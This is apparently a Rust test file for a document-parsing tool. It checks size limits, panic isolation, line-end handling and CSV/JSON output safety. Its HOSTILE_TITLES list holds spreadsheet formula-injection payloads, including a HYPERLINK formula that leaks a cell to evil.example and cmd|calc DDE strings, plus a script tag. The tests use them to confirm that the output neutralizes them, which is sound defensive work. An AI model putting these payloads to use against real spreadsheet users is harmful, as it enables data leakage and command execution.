//! Hostile inputs: every case of the `cargo xtask hostile` corpus gets its
//! specific reject reason or a record with its diagnostic, never a panic or a
//! hang; a panicking document is isolated; CSV cells cannot carry formulas.

use std::collections::BTreeMap;
use std::path::Path;
use std::process::Command;

use crate::support::{csv_rows, jsonl, manifest, read, root, run, temp_dir, wilson};

/// The generator behind `cargo xtask hostile`, shared so that the corpus and
/// its expectations cannot drift apart.
#[allow(dead_code)]
#[path = "../xtask/src/hostile.rs"]
mod generator;

/// What one input produced: its documents' diagnostic codes and its reject reasons.
#[derive(Debug, Default)]
struct Outcome {
    docs: Vec<Vec<String>>,
    rejects: Vec<String>,
}

#[test]
fn every_hostile_input_gets_its_expected_outcome() {
    let dir = temp_dir("hostile");
    let input = dir.join("hostile");
    let corpus = generator::generate(&input, &root()).unwrap();
    for note in &corpus.skipped {
        eprintln!("hostile: skipped {note}");
    }
    let out = dir.join("out");
    let result = run(&[&input], &out, &[]);
    assert_eq!(result.status.code(), Some(0), "{}", String::from_utf8_lossy(&result.stderr));

    let mut outcomes: BTreeMap<String, Outcome> = BTreeMap::new();
    for doc in jsonl(&out.join("documents.jsonl")) {
        let path = doc["source"]["path"].as_str().unwrap().to_owned();
        let codes = doc["diagnostics"].as_array().unwrap().iter().map(|d| d["code"].as_str().unwrap().to_owned());
        outcomes.entry(path).or_default().docs.push(codes.collect());
    }
    for reject in jsonl(&out.join("rejects.jsonl")) {
        let path = reject["path"].as_str().unwrap().to_owned();
        assert!(!reject["detail"].as_str().unwrap().is_empty(), "{reject}");
        outcomes.entry(path).or_default().rejects.push(reject["reason"].as_str().unwrap().to_owned());
    }

    let mut failures = Vec::new();
    for case in &corpus.cases {
        let path = format!("hostile/{}", case.display);
        let got = outcomes.remove(&path).unwrap_or_default();
        let expect = &case.expect;
        let mut reasons = got.rejects.clone();
        reasons.sort();
        let n_docs = got.docs.len();
        let diagnostic_ok =
            expect.diagnostic.is_none_or(|code| got.docs.iter().all(|codes| codes.iter().any(|c| c == code)));
        if reasons != expect.rejects || n_docs < expect.min_docs || n_docs > expect.max_docs || !diagnostic_ok {
            failures.push(format!("{} ({path:?}): expected {expect:?}, got {got:?}", case.name));
        }
    }
    assert!(failures.is_empty(), "unexpected outcomes:\n{}", failures.join("\n"));
    assert!(outcomes.is_empty(), "outcomes for inputs the generator did not make: {outcomes:?}");

    let m = manifest(&out);
    let counts = &m["counts"];
    assert_eq!(
        counts["seen"].as_u64().unwrap(),
        counts["processed"].as_u64().unwrap() + counts["rejected"].as_u64().unwrap()
    );
    let limits = &m["config"]["limits"];
    assert_eq!(limits["max_bytes"], 64 << 20);
    assert_eq!(limits["max_line_bytes"], 16 << 20);
    let huge = m["inputs"].as_array().unwrap().iter().find(|i| i["path"] == "hostile/huge-200mb.txt").unwrap();
    assert_eq!(huge["n_bytes"], generator::HUGE_BYTES, "a file too large to read is still hashed and measured");
    assert_eq!(huge["blake3"].as_str().unwrap().len(), 64);
    // The big files are not kept around.
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn limits_are_flags_and_recorded_in_the_manifest() {
    let input = temp_dir("limits-in");
    std::fs::copy(wilson().join("seed__document-118197.txt"), input.join("seed.txt")).unwrap();
    let out = temp_dir("limits-out");
    let result = run(&[&input], &out, &["--max-bytes", "1000", "--strict"]);
    assert_eq!(result.status.code(), Some(3));
    let rejects = jsonl(&out.join("rejects.jsonl"));
    assert_eq!(rejects[0]["reason"], "too_large");
    let detail = rejects[0]["detail"].as_str().unwrap();
    assert!(detail.contains("limit of 1000 bytes") && detail.contains("--max-bytes"), "{detail}");
    assert_eq!(manifest(&out)["config"]["limits"]["max_bytes"], 1000);

    let out = temp_dir("limits-line-out");
    assert!(run(&[&input], &out, &["--max-line-bytes", "100"]).status.success());
    let rejects = jsonl(&out.join("rejects.jsonl"));
    assert_eq!(rejects[0]["reason"], "line_too_long");
    assert!(rejects[0]["line"].as_u64().is_some() && rejects[0]["offset"].as_u64().is_some());
    assert_eq!(manifest(&out)["config"]["limits"]["max_line_bytes"], 100);
}

#[test]
fn a_panicking_document_becomes_an_internal_error_and_the_run_goes_on() {
    let input = temp_dir("panic-in");
    let mut names = Vec::new();
    for (idx, entry) in std::fs::read_dir(wilson()).unwrap().take(3).enumerate() {
        let name = format!("{idx}-record.txt");
        std::fs::copy(entry.unwrap().path(), input.join(&name)).unwrap();
        names.push(name);
    }
    let out = temp_dir("panic-out");
    let output = Command::new(env!("CARGO_BIN_EXE_dossier"))
        .args(["run", "--no-progress", "--out"])
        .arg(&out)
        .arg(&input)
        .env("DOSSIER_TEST_PANIC_ON", "1-record")
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(4), "{}", String::from_utf8_lossy(&output.stderr));
    let rejects = jsonl(&out.join("rejects.jsonl"));
    assert_eq!(rejects.len(), 1);
    assert_eq!(rejects[0]["reason"], "internal_error");
    assert!(rejects[0]["path"].as_str().unwrap().ends_with("/1-record.txt"));
    let detail = rejects[0]["detail"].as_str().unwrap();
    assert!(detail.contains("DOSSIER_TEST_PANIC_ON") && detail.contains("pipeline.rs"), "{detail}");
    let counts = &manifest(&out)["counts"];
    assert_eq!(
        (counts["seen"].as_u64(), counts["processed"].as_u64(), counts["rejected"].as_u64()),
        (Some(3), Some(2), Some(1))
    );
}

#[test]
fn a_panic_while_rendering_is_that_documents_internal_error() {
    let input = temp_dir("render-panic-in");
    for (idx, entry) in std::fs::read_dir(wilson()).unwrap().take(3).enumerate() {
        std::fs::copy(entry.unwrap().path(), input.join(format!("{idx}-record.txt"))).unwrap();
    }
    let out = temp_dir("render-panic-out");
    let output = Command::new(env!("CARGO_BIN_EXE_dossier"))
        .args(["run", "--no-progress", "--out"])
        .arg(&out)
        .arg(&input)
        .env("DOSSIER_TEST_PANIC_ON", "2-record")
        .env("DOSSIER_TEST_PANIC_STAGE", "render")
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(4), "{}", String::from_utf8_lossy(&output.stderr));
    let rejects = jsonl(&out.join("rejects.jsonl"));
    assert_eq!(rejects.len(), 1);
    assert_eq!(rejects[0]["reason"], "internal_error");
    let detail = rejects[0]["detail"].as_str().unwrap();
    assert!(detail.contains("export stage") && detail.contains("in rendering"), "{detail}");
    assert_eq!(jsonl(&out.join("documents.jsonl")).len(), 2);
}

/// Titles a spreadsheet would run as formulas, or that need escaping in JSON.
const HOSTILE_TITLES: [&str; 6] = [
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for the full cable\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3 Memorandum",
    "Memorandum \"quoted\" with a back\\slash and <script>alert(1)</script>",
    "\u{1b}[31mEscape\u{7} sequences\u{200b} and a zero-width space",
];

#[test]
fn hostile_strings_are_neutralized_in_csv_and_escaped_in_json() {
    let seed = read(&wilson().join("seed__document-118197.txt"));
    let title = "Cable from the Work Team of the Ministries of Foreign Affairs and Public Security to the Xinjiang Uyghur Autonomous Region Party Committee and the Ministries of Foreign Affairs and Public Security";
    let input = temp_dir("formula-in");
    for (idx, hostile) in HOSTILE_TITLES.iter().enumerate() {
        std::fs::write(input.join(format!("{idx}.txt")), seed.replace(title, hostile)).unwrap();
    }
    let out = temp_dir("formula-out");
    let result = run(&[&input], &out, &["--strict"]);
    assert!(result.status.success(), "{}", String::from_utf8_lossy(&result.stderr));

    let records = jsonl(&out.join("documents.jsonl"));
    let rows = csv_rows(&out.join("documents.csv"));
    assert_eq!(records.len(), HOSTILE_TITLES.len());
    for (record, row) in records.iter().zip(&rows) {
        let json_title = record["fields"]["title"]["value"].as_str().unwrap();
        assert!(HOSTILE_TITLES.contains(&json_title), "title changed on the way: {json_title:?}");
        let expected = if json_title.starts_with(['=', '+', '-', '@', '\t', '\r']) {
            format!("'{json_title}")
        } else {
            json_title.to_owned()
        };
        assert_eq!(row["title"], expected);
    }
    for file in ["documents.csv", "mentions.csv"] {
        for row in csv_rows(&out.join(file)) {
            for (column, cell) in &row {
                assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{file} {column}: {cell:?}");
            }
        }
    }
    // JSON escapes what must be escaped: every line is one valid JSON value.
    let text = read(&out.join("documents.jsonl"));
    assert!(!text.contains('\u{1b}') && !text.contains('\u{7}'), "control characters are escaped");
    assert_eq!(text.lines().count(), HOSTILE_TITLES.len());
    // Output names are fixed, never derived from content.
    let mut names: Vec<String> =
        std::fs::read_dir(&out).unwrap().map(|e| e.unwrap().file_name().to_string_lossy().into_owned()).collect();
    names.sort();
    assert_eq!(
        names,
        [
            "README.md",
            "clusters.csv",
            "documents.csv",
            "documents.jsonl",
            "edges.csv",
            "entities.csv",
            "links.csv",
            "manifest.json",
            "mentions.csv",
            "rejects.jsonl",
            "report.html"
        ]
    );
}

#[test]
fn lone_cr_line_ends_keep_the_layout() {
    // Found by the hostile corpus: `corpus/wilson/da__document-115088.txt`
    // (layout `current_site`) with old-Mac line ends (CR only) used to match no
    // Wilson layout and be read as plain text. The parser now reads lone CRs
    // as line ends (byte for byte, so offsets stay valid).
    let fixture = root().join("tests/fixtures/fuzz/lone-cr.txt");
    let out = temp_dir("lone-cr-out");
    assert!(run(&[Path::new(&fixture)], &out, &[]).status.success());
    let docs = jsonl(&out.join("documents.jsonl"));
    assert_eq!(docs.len(), 1);
    assert_eq!(docs[0]["layout"], "current_site");
    assert_eq!(docs[0]["fields"]["date_line"]["value"], "November 10, 1962");
    assert!(docs[0]["diagnostics"].as_array().unwrap().iter().any(|d| d["code"] == "lone_cr_line_ends"));
}

#[test]
fn fuzz_site_upload_date_char_boundary() {
    // Found by `cargo xtask fuzz` (target `parse_wilson`): a current-site page
    // whose line after `Original Uploaded Date` has a multi-byte character
    // across byte 4 panics in the parser; the binary isolates the panic as an
    // `internal_error`, but the page must be processed (or rejected by reason).
    let fixture = root().join("tests/fixtures/fuzz/site-upload-date-char-boundary.txt");
    let out = temp_dir("fuzz-upload-date-out");
    let result = run(&[Path::new(&fixture)], &out, &[]);
    assert_eq!(result.status.code(), Some(0), "{}", read(&out.join("rejects.jsonl")));
}

/// Every `source` evidence span of `record` slices `source` exactly.
fn assert_source_evidence(record: &serde_json::Value, source: &str) {
    match record {
        serde_json::Value::Object(map) => {
            if map.get("field").and_then(|f| f.as_str()) == Some("source") {
                let start = map["start"].as_u64().unwrap() as usize;
                let end = map["end"].as_u64().unwrap() as usize;
                assert_eq!(source.get(start..end), map["text"].as_str(), "source evidence at {start}..{end}");
            }
            map.values().for_each(|v| assert_source_evidence(v, source));
        }
        serde_json::Value::Array(items) => items.iter().for_each(|v| assert_source_evidence(v, source)),
        _ => {}
    }
}

#[test]
fn fuzz_lone_cr_keeps_offsets_faithful() {
    // Found by `cargo xtask fuzz` (targets `parse_frus`, `parse_wilson`): lone
    // CRs were turned into LFs for every format, so XML evidence no longer
    // matched the file. Now only line-based formats read them as line ends
    // (byte for byte), and XML evidence is the file's own text.
    let frus = root().join("tests/fixtures/fuzz/frus-lone-cr-in-source-note.xml");
    let wilson = root().join("tests/fixtures/fuzz/wilson-lone-cr-in-header.txt");
    let out = temp_dir("fuzz-lone-cr-out");
    // With `--evidence-text` every span carries the text it points at.
    let result = run(&[&frus, &wilson], &out, &["--evidence-text"]);
    assert_eq!(result.status.code(), Some(0), "{}", read(&out.join("rejects.jsonl")));
    let docs = jsonl(&out.join("documents.jsonl"));
    let frus_text = String::from_utf8_lossy(&std::fs::read(&frus).unwrap()).into_owned();
    for doc in docs.iter().filter(|d| d["format"] == "frus_tei") {
        assert_source_evidence(doc, &frus_text);
    }
    let wilson_text: String = {
        let raw = std::fs::read(&wilson).unwrap();
        let mapped: Vec<u8> = (0..raw.len())
            .map(|i| if raw[i] == b'\r' && raw.get(i + 1) != Some(&b'\n') { b'\n' } else { raw[i] })
            .collect();
        String::from_utf8_lossy(&mapped).into_owned()
    };
    for doc in docs.iter().filter(|d| d["format"] != "frus_tei") {
        assert_source_evidence(doc, &wilson_text);
    }
}

#[test]
fn inspect_honours_the_same_limits() {
    let seed = wilson().join("seed__document-118197.txt");
    let inspect = |flags: &[&str]| {
        std::process::Command::new(env!("CARGO_BIN_EXE_dossier"))
            .arg("inspect")
            .arg(&seed)
            .args(flags)
            .output()
            .unwrap()
    };
    let out = inspect(&["--max-bytes", "1000"]);
    assert_eq!(out.status.code(), Some(3), "a rejected file is exit status 3");
    assert!(out.stdout.is_empty());
    let stderr = String::from_utf8(out.stderr).unwrap();
    assert!(stderr.contains("too_large") && stderr.contains("limit of 1000 bytes"), "{stderr}");
    let out = inspect(&["--max-line-bytes", "100"]);
    assert!(String::from_utf8(out.stderr).unwrap().contains("line_too_long"));
    assert!(inspect(&[]).status.success());
}
